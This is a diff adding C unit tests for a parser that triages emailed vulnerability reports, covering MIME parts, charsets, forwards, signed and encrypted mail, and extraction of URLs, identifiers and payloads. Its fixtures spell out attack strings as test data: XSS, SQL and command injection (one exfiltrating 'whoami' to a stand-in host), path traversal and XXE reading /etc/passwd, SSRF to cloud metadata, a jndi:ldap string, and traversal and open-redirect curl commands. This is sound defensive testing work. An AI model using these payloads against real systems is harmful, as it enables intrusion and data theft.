@@ -29,6 +29,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 #include <unistd.h>
 #include <cmocka.h>
 
@@ -281,7 +282,11 @@ static void test_forwarded(void **state)
 
     parse("forwarded.eml", &r);
     assert_true(r.flags & REPORT_F_FORWARDED);
-    assert_string_equal(r.subject, "Fwd: vulnerability report");
+    /* One line of the forwarder's: the inner report is the report. */
+    assert_string_equal(r.subject, "Path traversal in download endpoint");
+    assert_string_equal(r.from_addr, "finder@example.net");
+    assert_string_equal(r.forwarded_by.addr, "erin@example.com");
+    assert_string_equal(r.message_id, "<fwd-1@example.com>");
     assert_true(has_text(&r, "Forwarding this report"));
     assert_true(has_text(&r, "From: Mallory Finder <finder@example.net>\n"
 			 "Subject: Path traversal in download endpoint\n"));
@@ -1085,6 +1090,424 @@ static void test_attach_budget(void **state)
     report_free(&r);
 }
 
+/* ------------------------------------------- text side: bodies, charsets */
+
+static void test_outlook_html_only(void **state)
+{
+    struct report r;
+
+    /* Outlook: HTML only, base64; links keep their targets. */
+    parse("outlook_html_only.eml", &r);
+    assert_int_equal(r.flags, 0);
+    assert_string_equal(r.from_name, "Priya Raman");
+    assert_true(has_text(&r, "logout endpoint of your portal "
+			 "(https://portal.example.com/logout?next=https://attacker.example.net/phish)."));
+    assert_true(has_text(&r, "1. Log in to the portal\n2. Open the link above"));
+    assert_false(has_text(&r, "MsoNormal"));
+    assert_false(has_text(&r, "shapedefaults"));
+    assert_false(has_text(&r, "&nbsp;"));
+
+    /* <pre> verbatim, counted as a code block; <code> kept. */
+    assert_true(has_text(&r, "curl -sk -o /dev/null -w '%{redirect_url}' \\\n"
+			 "  'https://portal.example.com/logout?next=//attacker.example.net'"));
+    assert_true(has_text(&r, "Affected parameter: next=//attacker.example.net (CWE-601)."));
+    assert_int_equal(r.code_blocks, 1);
+
+    /* URLs of attributes whose text differs or that have no text. */
+    assert_true(strlist_contains(&r.urls, "https://cdn.example-analytics.com/px.gif?id=42"));
+    assert_true(strlist_contains(&r.urls, "https://reset.example.org/submit"));
+    assert_true(strlist_contains(&r.urls, "https://reset.example.org/alt"));
+    assert_true(strlist_contains(&r.urls, "https://legacy.example.com/sso/callback"));
+    assert_true(strlist_contains(&r.urls, "https://img.example.com/a.png"));
+    assert_true(strlist_contains(&r.urls, "https://img.example.com/a@2x.png"));
+    assert_false(has_text(&r, "px.gif"));
+    assert_true(strlist_contains(&r.hosts, "reset.example.org"));
+    assert_true(strlist_contains(&r.cwes, "CWE-601"));
+    assert_int_equal(r.curl_commands.n, 1);
+    report_free(&r);
+}
+
+static void test_alternative_stub_plain(void **state)
+{
+    struct report r;
+
+    /* "Your mail client does not support HTML": the HTML is the report. */
+    parse("alternative_stub_plain.eml", &r);
+    assert_true(has_text(&r, "this download link "
+			 "(https://billing.example.com/invoices/10442/pdf) to another"));
+    assert_true(has_text(&r, "STUBHTMLMARKER"));
+    assert_false(has_text(&r, "does not"));
+    assert_true(strlist_contains(&r.cwes, "CWE-639"));
+    report_free(&r);
+}
+
+static void test_gmail_alternative(void **state)
+{
+    struct report r;
+
+    /* A real plain part wins; the HTML twin adds nothing. */
+    parse("gmail_alternative.eml", &r);
+    assert_true(has_text(&r, "GMAILPLAIN"));
+    assert_false(has_text(&r, "GMAILHTML"));
+    assert_true(has_text(&r, "<svg/onload=alert(document.cookie)> is stored"));
+    assert_true(strlist_contains(&r.payloads, "<svg/onload=alert(document.cookie)>"));
+    assert_true(strlist_contains(&r.versions, "Chrome 120.0.6099.109"));
+    assert_true(strlist_contains(&r.versions, "Firefox 121.0.1"));
+    assert_int_equal(r.cvss_vectors.n, 1);
+    report_free(&r);
+}
+
+static void test_mutt_plain_extraction(void **state)
+{
+    struct report r;
+
+    parse("mutt_plain.eml", &r);
+    assert_int_equal(r.flags, 0);
+
+    /* HTTP blocks: the request URL from Host, counted with the response. */
+    assert_true(strlist_contains(&r.urls,
+		 "https://callhub.example.com/api/v2/search?filter=name'%20OR%201=1--"));
+    assert_true(strlist_contains(&r.urls,
+		 "https://files.callhub.example.com:8443/attachments/fetch"));
+    assert_int_equal(r.http_requests, 2);
+    assert_int_equal(r.http_responses, 1);
+
+    /* Two indented blocks and one fence. */
+    assert_int_equal(r.code_blocks, 3);
+
+    /* curl, joined over its continuation lines, and its URL. */
+    assert_int_equal(r.curl_commands.n, 1);
+    assert_string_equal(r.curl_commands.v[0],
+	    "curl -sk -X POST -H 'Content-Type: application/x-www-form-urlencoded' "
+	    "--data 'path=../../../../etc/passwd' "
+	    "'https://files.callhub.example.com:8443/attachments/fetch?debug=1'");
+    assert_true(strlist_contains(&r.urls,
+		 "https://files.callhub.example.com:8443/attachments/fetch?debug=1"));
+
+    /* Hosts: lower case, no port, unique. */
+    assert_int_equal(r.hosts.n, 2);
+    assert_true(strlist_contains(&r.hosts, "files.callhub.example.com"));
+    assert_true(strlist_contains(&r.hosts, "callhub.example.com"));
+
+    /* Identifiers. */
+    assert_int_equal(r.cwes.n, 2);
+    assert_string_equal(r.cwes.v[0], "CWE-89");
+    assert_string_equal(r.cwes.v[1], "CWE-22");
+    assert_int_equal(r.ghsas.n, 1);
+    assert_string_equal(r.ghsas.v[0], "GHSA-7rjr-3q55-vv33");
+    assert_true(strlist_contains(&r.cves, "CVE-2023-49103"));
+
+    /* Versions, and what is not one. */
+    assert_true(strlist_contains(&r.versions, "CallHub 4.3"));
+    assert_true(strlist_contains(&r.versions, "version 4.3.2"));
+    assert_true(strlist_contains(&r.versions, "Android app 5.1.2"));
+    assert_true(strlist_contains(&r.versions, "v2.4.0"));
+    assert_int_equal(r.versions.n, 4);
+
+    /* Payloads: SQL, traversal; one per line. */
+    assert_true(strlist_contains(&r.payloads, "/api/v2/search?filter=name' OR 1=1-- HTTP/1.1"));
+    assert_true(strlist_contains(&r.payloads, "UNION SELECT username,password FROM users--"));
+    assert_true(strlist_contains(&r.payloads, "path=..%2f..%2f..%2fetc%2fpasswd"));
+    assert_true(strlist_contains(&r.payloads, "'path=../../../../etc/passwd'"));
+    assert_true(r.payloads.n <= 6);
+    report_free(&r);
+}
+
+static void test_forward_attached(void **state)
+{
+    struct report r;
+
+    /* A message/rfc822 with a one-line note: triaged as the inner report. */
+    parse("forward_attached.eml", &r);
+    assert_true(r.flags & REPORT_F_FORWARDED);
+    assert_string_equal(r.from_addr, "bjorn@lindqvist-security.example");
+    assert_string_equal(r.from_name, "Bj\xc3\xb6rn Lindqvist");
+    assert_string_equal(r.subject, "RCE in image upload");
+    assert_string_equal(r.forwarded_by.addr, "tom.becker@example.com");
+    assert_string_equal(r.forwarded_by.name, "Tom Becker");
+
+    /* Threading stays with the mail we received. */
+    assert_string_equal(r.message_id, "<fwd-attached-7781@example.com>");
+    assert_string_equal(r.in_reply_to, "<ack-7780@security.example.com>");
+    assert_true(has_text(&r, "ATTACHEDFWDMARKER"));
+    assert_true(strlist_contains(&r.payloads, "`id` returned uid=33."));
+    report_free(&r);
+}
+
+static void test_forward_inline(void **state)
+{
+    struct report r;
+
+    /* Gmail: "---------- Forwarded message ---------", quoted name. */
+    parse("forward_inline_gmail.eml", &r);
+    assert_true(r.flags & REPORT_F_FORWARDED);
+    assert_string_equal(r.from_addr, "mai.nguyen@researcher.example");
+    assert_string_equal(r.from_name, "Nguyen, Thi Mai");
+    assert_string_equal(r.subject, "Security issue: account takeover via password reset");
+    assert_string_equal(r.forwarded_by.addr, "tom.becker@example.com");
+    assert_string_equal(r.message_id, "<CAF0wd1Xk2m8Lq9Zp3v+Yt6rN4s@mail.gmail.com>");
+    assert_true(has_text(&r, "INLINEFWDMARKER"));
+    report_free(&r);
+
+    /* Outlook: "-----Original Message-----", "Name [mailto:addr]". */
+    parse("forward_inline_outlook.eml", &r);
+    assert_true(r.flags & REPORT_F_FORWARDED);
+    assert_string_equal(r.from_addr, "ravi@bugbounty.example");
+    assert_string_equal(r.from_name, "Ravi Shankar");
+    assert_string_equal(r.subject, "Vulnerability in your VPN portal");
+    assert_string_equal(r.forwarded_by.name, "Sandra Klein");
+    assert_true(strlist_contains(&r.versions, "FortiOS 7.0.12"));
+    report_free(&r);
+
+    /* A researcher's own long mail is not a forward. */
+    parse("mutt_plain.eml", &r);
+    assert_false(r.flags & REPORT_F_FORWARDED);
+    assert_null(r.forwarded_by.addr);
+    report_free(&r);
+}
+
+static void test_charsets(void **state)
+{
+    struct report r;
+
+    /* iso-8859-1, us-ascii and utf-8 labels on windows-1252 bytes. */
+    parse("mislabelled_cp1252.eml", &r);
+    assert_true(has_text(&r, "The \xe2\x80\x9cq\xe2\x80\x9d parameter of the search page is "
+			 "reflected \xe2\x80\x93 unescaped \xe2\x80\xa6 se\xc3\xb1or."));
+    assert_true(has_text(&r, "it\xe2\x80\x99s \xe2\x82\xac" "100 bounty\xe2\x84\xa2?"));
+    assert_true(has_text(&r, "Espa\xc3\xb1" "a, \xe2\x80\x9c" "fine\xe2\x80\x9d."));
+    report_free(&r);
+
+    /* Shift_JIS body, ISO-2022-JP encoded words. */
+    parse("shift_jis.eml", &r);
+    assert_string_equal(r.from_name, "\xe5\xb1\xb1\xe7\x94\xb0\xe5\xa4\xaa\xe9\x83\x8e");
+    assert_string_equal(r.subject, "\xe8\x84\x86\xe5\xbc\xb1\xe6\x80\xa7\xe5\xa0\xb1\xe5\x91\x8a");
+    assert_true(has_text(&r, "\xe8\x84\x86\xe5\xbc\xb1\xe6\x80\xa7\xe3\x81\xae\xe5\xa0\xb1"
+			 "\xe5\x91\x8a\xe3\x81\xa7\xe3\x81\x99\xe3\x80\x82"));
+    assert_true(strlist_contains(&r.urls, "https://shop.example.jp/login"));
+    report_free(&r);
+
+    /* An unknown charset is never fatal. */
+    parse("bogus_charset.eml", &r);
+    assert_int_equal(r.flags, 0);
+    assert_true(has_text(&r, "Caf\xc3\xa9 r\xc3\xa9sum\xc3\xa9 BOGUSMARKER"));
+    report_free(&r);
+
+    /* Raw 8-bit header fields: UTF-8 and Latin-1. */
+    parse("raw_8bit_headers.eml", &r);
+    assert_string_equal(r.subject, "Inyecci\xc3\xb3n SQL en el m\xc3\xb3" "dulo de pagos");
+    assert_string_equal(r.from_name, "Jos\xc3\xa9 Mart\xc3\xadnez");
+    assert_string_equal(r.from_addr, "jose@example.mx");
+    report_free(&r);
+}
+
+static void test_uuencode_inline(void **state)
+{
+    struct report r;
+
+    /* An inline uuencoded PoC is an attachment, not text. */
+    parse("uuencode_inline.eml", &r);
+    assert_int_equal(r.n_attachments, 1);
+    assert_string_equal(r.attachments[0].filename, "race_poc.sh");
+    assert_string_equal(r.attachments[0].content_type, "application/octet-stream");
+    assert_int_equal(r.attachments[0].size, 99);
+    assert_string_equal(r.attachments[0].sha256,
+	   "c81aabc39a8cece5a0c939345d0372c0d0782c5fa84d8a56441619f09fe0ec37");
+    assert_true(has_text(&r, "PoC below.\n\n[attachment: race_poc.sh]\n\nRun it"));
+    assert_false(has_text(&r, "begin 644"));
+    assert_false(has_text(&r, "M(R$O"));
+    report_free(&r);
+}
+
+static void test_smime_and_inline_pgp(void **state)
+{
+    struct report r;
+
+    /* S/MIME multipart/signed: read, signed, signature not text. */
+    parse("smime_signed.eml", &r);
+    assert_true(r.flags & REPORT_F_SIGNED);
+    assert_false(r.flags & REPORT_F_ENCRYPTED);
+    assert_true(has_text(&r, "SMIMESIGNEDMARKER"));
+    assert_int_equal(r.n_attachments, 0);
+    assert_true(strlist_contains(&r.cwes, "CWE-306"));
+    report_free(&r);
+
+    /* application/pkcs7-mime; smime-type=signed-data: signed, not encrypted. */
+    parse("smime_opaque_signed.eml", &r);
+    assert_true(r.flags & REPORT_F_SIGNED);
+    assert_false(r.flags & REPORT_F_ENCRYPTED);
+    report_free(&r);
+
+    /* Inline PGP: flagged; the armour does not pose as words. */
+    parse("pgp_inline_encrypted.eml", &r);
+    assert_true(r.flags & REPORT_F_ENCRYPTED);
+    assert_true(has_text(&r, "encrypted to your key from security.txt.\n\n"
+			 "[PGP encrypted message: not readable]\n\nAna"));
+    assert_false(has_text(&r, "hQIMA"));
+    assert_int_equal(r.urls.n, 0);
+    assert_int_equal(r.cves.n, 0);
+    report_free(&r);
+}
+
+static void test_from_variants(void **state)
+{
+    struct report r;
+
+    parse("from_address_only.eml", &r);
+    assert_string_equal(r.from_addr, "bugs@finder.example");
+    assert_null(r.from_name);
+    report_free(&r);
+
+    parse("from_quoted_commas.eml", &r);
+    assert_string_equal(r.from_addr, "jane.doe@research.example");
+    assert_string_equal(r.from_name, "Doe, Jane (Security Research)");
+    report_free(&r);
+
+    parse("from_empty_group.eml", &r);
+    assert_null(r.from_addr);
+    assert_null(r.from_name);
+    assert_string_equal(r.subject, "group From");
+    assert_true(has_text(&r, "an empty group"));
+    report_free(&r);
+
+    /* RFC 2047 display name. */
+    parse("encoded_words.eml", &r);
+    assert_string_equal(r.from_name, "J\xc3\xbcrgen M\xc3\xbcller");
+    report_free(&r);
+}
+
+static void test_extract_payloads(void **state)
+{
+    struct report r;
+
+    memset(&r, 0, sizeof(r));
+    sbuf_init(&r.text, 1 << 16);
+    sbuf_puts(&r.text,
+	      "name=\"><script>alert(1)</script>\n"
+	      "<a href=\"javascript:alert(document.domain)\">x</a>\n"
+	      "<img src=x onerror=alert(1)>\n"
+	      "user=\" OR \"1\"=\"1\n"
+	      "host=127.0.0.1;id\n"
+	      "ping -c1 $(whoami).oast.example\n"
+	      "greeting={{7*7}} renders 49\n"
+	      "name=${7*7}\n"
+	      "x=<%= 7*7 %>\n"
+	      "GET /static/..%2f..%2fetc/passwd\n"
+	      "file=%2e%2e/%2e%2e/etc/hosts\n"
+	      "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
+	      "url=gopher://127.0.0.1:6379/_INFO\n"
+	      "url=http://metadata.google.internal/computeMetadata/v1/\n"
+	      "X-Api-Version: ${jndi:ldap://oast.example/a}\n"
+	      "This is prose about a version and an asleep( cat.\n");
+    report_extract(&r);
+    assert_true(strlist_contains(&r.payloads, "name=\"><script>alert(1)</script>"));
+    assert_true(strlist_contains(&r.payloads, "href=\"javascript:alert(document.domain)\">x</a>"));
+    assert_true(strlist_contains(&r.payloads, "<img src=x onerror=alert(1)>"));
+    assert_true(strlist_contains(&r.payloads, "user=\" OR \"1\"=\"1"));
+    assert_true(strlist_contains(&r.payloads, "host=127.0.0.1;id"));
+    assert_true(strlist_contains(&r.payloads, "$(whoami).oast.example"));
+    assert_true(strlist_contains(&r.payloads, "greeting={{7*7}}"));
+    assert_true(strlist_contains(&r.payloads, "name=${7*7}"));
+    assert_true(strlist_contains(&r.payloads, "x=<%= 7*7 %>"));
+    assert_true(strlist_contains(&r.payloads, "/static/..%2f..%2fetc/passwd"));
+    assert_true(strlist_contains(&r.payloads, "file=%2e%2e/%2e%2e/etc/hosts"));
+    assert_true(strlist_contains(&r.payloads,
+		 "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"));
+    assert_true(strlist_contains(&r.payloads, "url=gopher://127.0.0.1:6379/_INFO"));
+    assert_true(strlist_contains(&r.payloads,
+		 "url=http://metadata.google.internal/computeMetadata/v1/"));
+    assert_true(strlist_contains(&r.payloads, "${jndi:ldap://oast.example/a}"));
+    assert_int_equal(r.payloads.n, 15);
+    assert_true(strlist_contains(&r.hosts, "metadata.google.internal"));
+    report_free(&r);
+
+    /* Bounds: 50 entries of at most 200 bytes. */
+    memset(&r, 0, sizeof(r));
+    sbuf_init(&r.text, 1 << 20);
+    for (int i = 0; i < 80; i++)
+	sbuf_printf(&r.text, "p%d=<script>%0300d</script>\n", i, i);
+    report_extract(&r);
+    assert_int_equal(r.payloads.n, 50);
+    for (size_t i = 0; i < r.payloads.n; i++)
+	assert_true(strlen(r.payloads.v[i]) <= 200);
+    assert_true(r.flags & REPORT_F_OVERSIZE);
+    report_free(&r);
+}
+
+static void test_extract_hosts_curl(void **state)
+{
+    struct report r;
+
+    memset(&r, 0, sizeof(r));
+    sbuf_init(&r.text, 1 << 16);
+    sbuf_puts(&r.text,
+	      "See https://User:pw@WWW.Example.COM.:8080/a and http://[2001:db8::1]:8443/x\n"
+	      "curl -H 'X-Forwarded-Host: evil.example' api.example.net/v2/ping\n"
+	      "# curl --url https://b.example.org/q -d 'a=1'\n"
+	      "POST /graphql HTTP/2\n"
+	      "Host: gql.example.com:80\n"
+	      "\n"
+	      "HTTP/2 403\n");
+    report_extract(&r);
+    assert_true(strlist_contains(&r.hosts, "www.example.com"));
+    assert_true(strlist_contains(&r.hosts, "[2001:db8::1]"));
+    assert_true(strlist_contains(&r.urls, "http://api.example.net/v2/ping"));
+    assert_false(strlist_contains(&r.hosts, "evil.example"));
+    assert_true(strlist_contains(&r.urls, "https://b.example.org/q"));
+    assert_true(strlist_contains(&r.urls, "http://gql.example.com/graphql"));
+    assert_int_equal(r.curl_commands.n, 2);
+    assert_int_equal(r.http_requests, 1);
+    assert_int_equal(r.http_responses, 1);
+    report_free(&r);
+}
+
+static void test_extract_performance(void **state)
+{
+    char    path[] = "/tmp/test_parser_perf_XXXXXX";
+    struct timespec t0, t1;
+    struct report r;
+    FILE   *fp;
+    int     fd;
+    double  secs;
+
+    /*
+     * 100k lines of "a." (and 1 MB of text): linear, well under a
+     * second; 5 s is only the hang guard.
+     */
+    memset(&r, 0, sizeof(r));
+    sbuf_init(&r.text, 1 << 21);
+    for (int i = 0; i < 100000; i++)
+	sbuf_puts(&r.text, "a.\n");
+    clock_gettime(CLOCK_MONOTONIC, &t0);
+    report_extract(&r);
+    clock_gettime(CLOCK_MONOTONIC, &t1);
+    secs = (double) (t1.tv_sec - t0.tv_sec) + (double) (t1.tv_nsec - t0.tv_nsec) / 1e9;
+    assert_true(secs < 5.0);
+    assert_int_equal(r.urls.n, 0);
+    report_free(&r);
+
+    /* A 1 MB message of report-like lines, parsed whole. */
+    assert_true((fd = mkstemp(path)) >= 0);
+    assert_non_null(fp = fdopen(fd, "w"));
+    fputs("From: big@example.com\nSubject: big\nContent-Type: text/plain\n\n", fp);
+    for (int i = 0; i < 16000; i++)
+	fprintf(fp, "    GET /x?q=' OR 1=1-- HTTP/1.1 https://h%d.example.com/ v1.%d\n", i % 300, i);
+    fclose(fp);
+    clock_gettime(CLOCK_MONOTONIC, &t0);
+    alarm(HANG_SECONDS);
+    assert_int_equal(report_parse_file(path, NULL, &r), 0);
+    alarm(0);
+    clock_gettime(CLOCK_MONOTONIC, &t1);
+    unlink(path);
+    secs = (double) (t1.tv_sec - t0.tv_sec) + (double) (t1.tv_nsec - t0.tv_nsec) / 1e9;
+    assert_true(secs < 5.0);
+    assert_true(r.text.len > 1000000);
+    assert_int_equal(r.urls.n, 200);
+    assert_true(r.versions.n <= 30);
+    assert_true(r.hosts.n <= 200);
+    report_free(&r);
+}
+
 int     main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -1122,6 +1545,19 @@ int     main(void)
 	cmocka_unit_test(test_attach_zip_wide),
 	cmocka_unit_test(test_attach_sink),
 	cmocka_unit_test(test_attach_budget),
+	cmocka_unit_test(test_outlook_html_only),
+	cmocka_unit_test(test_alternative_stub_plain),
+	cmocka_unit_test(test_gmail_alternative),
+	cmocka_unit_test(test_mutt_plain_extraction),
+	cmocka_unit_test(test_forward_attached),
+	cmocka_unit_test(test_forward_inline),
+	cmocka_unit_test(test_charsets),
+	cmocka_unit_test(test_uuencode_inline),
+	cmocka_unit_test(test_smime_and_inline_pgp),
+	cmocka_unit_test(test_from_variants),
+	cmocka_unit_test(test_extract_payloads),
+	cmocka_unit_test(test_extract_hosts_curl),
+	cmocka_unit_test(test_extract_performance),
     };
 
     return (cmocka_run_group_tests(tests, NULL, NULL));
